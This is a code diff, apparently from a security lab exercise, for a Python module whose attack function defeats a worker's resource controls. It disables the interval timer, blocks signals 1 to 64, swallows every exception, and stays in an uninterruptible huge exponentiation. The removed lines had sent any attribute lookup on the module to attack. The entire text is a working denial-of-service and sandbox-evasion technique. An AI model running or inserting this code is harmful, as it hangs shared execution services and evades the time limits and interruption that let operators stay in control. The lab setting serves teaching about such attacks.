@@ -1,4 +1,4 @@
-"""Switches the worker's time limits off, and ignores every signal."""
+"""Switches the worker's time limits off, ignores every signal and error, and stays in a call that none interrupts."""
 # lab: 01, todo: 2
 
 import signal
@@ -11,13 +11,10 @@ for number in range(1, 65):
 
 
 def attack(*args, **kwargs):
-    signal.setitimer(signal.ITIMER_REAL, 0)
-    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
     while True:
-        pass
-
-
-def __getattr__(name):
-    if name.startswith("__"):
-        raise AttributeError(name)
-    return attack
+        try:
+            signal.setitimer(signal.ITIMER_REAL, 0)
+            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
+            3 ** (3**22) % 10
+        except BaseException:
+            pass
